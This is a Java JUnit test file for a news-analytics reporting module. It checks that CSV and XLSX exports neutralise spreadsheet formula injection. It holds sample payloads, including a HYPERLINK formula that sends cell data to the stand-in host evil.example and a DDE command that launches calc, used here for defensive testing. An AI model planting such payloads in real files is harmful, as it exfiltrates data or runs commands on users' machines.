package io.pantau.reports;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.pantau.analytics.EntityCounts;
import io.pantau.analytics.EntityType;
import io.pantau.analytics.Interval;
import io.pantau.analytics.SentimentTimeline;
import io.pantau.analytics.SourceShares;
import io.pantau.analytics.TermCounts;
import io.pantau.analytics.TermField;
import io.pantau.analytics.Volume;
import io.pantau.article.Article;
import io.pantau.article.Entities;
import io.pantau.article.Sentiment;
import io.pantau.article.SentimentLabel;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.time.Instant;
import java.time.ZoneOffset;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;

/**
 * Text from scraped articles and from the query never reaches a spreadsheet as a formula: each file
 * is read back the way a spreadsheet reads it.
 */
class SpreadsheetInjectionTest {
  private static final String HYPERLINK = "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"open\")";
  private static final String DDE = "+cmd|' /C calc'!A0";

  private static Article hostile() {
    return Article.builder()
        .id("a1")
        .url("https://news.example/a1")
        .title(HYPERLINK)
        .source(DDE)
        .publisher("-2+3")
        .lang("en")
        .published(Instant.parse("2025-06-16T08:00:00Z"))
        .keywords(List.of("@SUM(1,2)", "banjir"))
        .entities(new Entities(List.of("\t=1+1"), List.of("\uFF1D1+1"), List.of("\r=1")))
        .sentiment(new Sentiment(-0.5, SentimentLabel.negative, 0.9))
        .storyId("s1")
        .build();
  }

  private static List<Provenance.Entry> provenance() {
    return List.of(
        new Provenance.Entry("Query", "banjir,=1+1"), new Provenance.Entry("Sources", "a; @b"));
  }

  private static String csv() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    CsvReport w = new CsvReport(out, provenance());
    w.row(hostile(), 3);
    w.finish();
    w.close();
    return out.toString(StandardCharsets.UTF_8);
  }

  private static boolean formulaStart(String cell) {
    return !cell.isEmpty() && "=+-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20".indexOf(cell.charAt(0)) >= 0;
  }

  @Test
  void noCsvCellAsASpreadsheetSplitsItStartsAFormulaButNumbersStayNumbers() throws Exception {
    String text = csv();
    // A spreadsheet knows no comment lines: the provenance lines are cells too.
    try (CSVParser p =
        CSVParser.builder().setReader(new StringReader(text)).setFormat(CSVFormat.RFC4180).get()) {
      for (CSVRecord r : p) {
        for (String cell : r) {
          if (formulaStart(cell)) {
            assertNumber(cell, text);
          }
        }
      }
    }
    assertTrue(text.contains("# Query: banjir,'=1+1"), text);
    assertTrue(text.contains("# Sources: a; '@b"), text);
  }

  private static void assertNumber(String cell, String text) {
    try {
      Double.parseDouble(cell);
    } catch (NumberFormatException e) {
      throw new AssertionError("a spreadsheet would run the cell " + cell + " in:\n" + text, e);
    }
  }

  @Test
  void csvTextCellsKeepTheirTextBehindOneQuoteAndTheScoreIsABareNegativeNumber() throws Exception {
    String text = csv();
    CSVFormat f = CsvReport.FORMAT.builder().setHeader().setSkipHeaderRecord(true).get();
    CSVRecord r;
    try (CSVParser p = CSVParser.builder().setReader(new StringReader(text)).setFormat(f).get()) {
      r = p.getRecords().get(0);
    }
    assertEquals("'" + HYPERLINK, r.get("title"));
    assertEquals("'" + DDE, r.get("source"));
    assertEquals("'-2+3", r.get("publisher"));
    assertEquals("'@SUM(1,2); banjir", r.get("keywords"));
    assertEquals("'\t=1+1", r.get("persons"));
    assertEquals("'\uFF1D1+1", r.get("organizations"));
    assertEquals("'\r=1", r.get("places"));
    assertEquals("https://news.example/a1", r.get("url"), "ordinary text is untouched");
    assertEquals("-0.5000", r.get("sentimentScore"));
    assertEquals("3", r.get("copies"));
    // Text is quoted, numbers are not: a spreadsheet reads the score and copies as numbers.
    String row = text.substring(text.indexOf("\"2025-06-16T08:00:00Z\""));
    assertTrue(row.contains(",-0.5000,\"negative\","), row);
    assertTrue(row.endsWith(",\"s1\",3\r\n"), row);
  }

  @Test
  void xlsxHoldsTheTextAsTypedStringsMarkedAsTextAndNoFormula() throws Exception {
    ByteArrayOutputStream out = new ByteArrayOutputStream();
    Summary summary =
        new Summary(
            new Volume.Series("all", List.of()),
            new SentimentTimeline(Interval.day, List.of(), List.of()),
            new SourceShares(1, List.of(new SourceShares.Item(DDE, 1, 1.0))),
            new TermCounts(TermField.keywords, List.of(new TermCounts.Item("@SUM(1,2)", 1))),
            new EntityCounts(EntityType.person, List.of(new EntityCounts.Item("\t=1+1", 1))),
            new EntityCounts(EntityType.organization, List.of()),
            new EntityCounts(EntityType.place, List.of()),
            List.of(),
            Map.of());
    try (XlsxReport w = new XlsxReport(out, provenance(), summary, ZoneOffset.UTC)) {
      w.row(hostile(), 3);
      w.finish();
    }
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
      int risky = 0;
      for (Sheet sheet : book) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            assertNotEquals(CellType.FORMULA, cell.getCellType(), sheet.getSheetName());
            if (cell.getCellType() == CellType.STRING && formulaStart(cell.getStringCellValue())) {
              risky++;
              assertTrue(
                  cell.getCellStyle().getQuotePrefixed(),
                  "not marked as text: " + cell.getStringCellValue());
            }
          }
        }
      }
      assertTrue(risky >= 10, "the hostile values reached the workbook: " + risky);
      Row article = book.getSheet(XlsxReport.ARTICLES).getRow(1);
      assertEquals(HYPERLINK, article.getCell(1).getStringCellValue(), "the text itself is kept");
      assertEquals(CellType.NUMERIC, article.getCell(6).getCellType());
      assertEquals(-0.5, article.getCell(6).getNumericCellValue());
      assertFalse(article.getCell(4).getCellStyle().getQuotePrefixed(), "the URL is plain text");
    }
  }
}
